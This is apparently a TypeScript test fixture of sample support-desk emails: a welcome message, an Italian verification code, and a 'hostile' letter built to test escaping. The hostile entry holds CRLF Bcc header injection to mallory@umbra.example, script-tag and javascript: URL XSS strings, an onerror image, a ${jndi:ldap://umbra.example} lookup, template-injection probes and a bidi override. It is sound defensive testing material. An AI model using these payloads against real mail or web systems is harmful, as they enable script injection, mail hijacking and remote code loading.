import type { Letter } from '../../../src/views/letter.ts'
import { notices } from './notices.ts'

/** Letters as they usually are, and as Mallory would have them. */
export const letters = {
	welcome: {
		kind: 'letter',
		locale: 'en',
		subject: 'Welcome to Acme Support',
		preview: 'Create a password to see your requests.',
		heading: 'Welcome, Ada',
		paragraphs: [
			'Your account at Acme Support is ready. Create a password and you can open requests, follow the ones you are copied on, and read every answer in one place.',
			'The button works once and for 24 hours.',
		],
		action: {
			label: 'Create a password',
			url: 'https://support.acme.example/password/set?token=q0Y1nC3mVb8xT5kZr7wL2pGd9sHfJa4uEiNoMy6tQcU',
		},
		footnotes: [
			'You get this because someone signed up with ada@acme.example. If it was not you, do nothing: without a password the account stays closed.',
		],
	},
	code: {
		kind: 'letter',
		locale: 'it',
		subject: 'Il tuo codice: K7QX-9M2P',
		preview: 'Vale 10 minuti.',
		heading: 'Collega la chat al tuo account',
		paragraphs: [
			'Ada Rossi (@ada in Acme) vuole collegare la chat a questo account. Scrivi lì questo codice; vale 10 minuti.',
		],
		code: 'K7QX-9M2P',
		footnotes: [
			'Non hai chiesto tu questo codice? Non darlo a nessuno e ignora questa mail: senza codice non succede nulla.',
			'Assistenza Acme',
		],
	},
	hostile: {
		kind: 'letter',
		locale: 'en',
		subject: 'Hello\r\nBcc: mallory@umbra.example\r\n\r\n<script>alert(1)</script>',
		preview: '</div><script>alert(2)</script>',
		heading: '<script>alert(3)</script> & "Ada" \u202eissoR\u202c',
		paragraphs: [
			'<img src=https://umbra.example/x onerror=alert(4)> &amp; <b>bold</b> ]]> <!-- ',
			'w'.repeat(10_000),
			'first\nsecond\r\nthird\0\u0007\u001b[31m',
			'.\n..\nFrom me\n--boundary',
			'Grüße, perché, Привет, שלום, 你好, 🐐, \ud800',
			'${jndi:ldap://umbra.example} {{7*7}} <%= 1 %>',
		],
		code: '"><script>alert(5)</script>',
		action: { label: '"><script>alert(6)</script>', url: 'javascript:alert(7)//"><script>alert(8)</script>' },
		footnotes: ['</style><script>alert(9)</script>'],
		unsubscribe: { label: '<b>Stop</b>', url: 'javascript:alert(10)//\r\nBcc: mallory@umbra.example' },
	},
	...notices,
} as const satisfies Record<string, Letter>
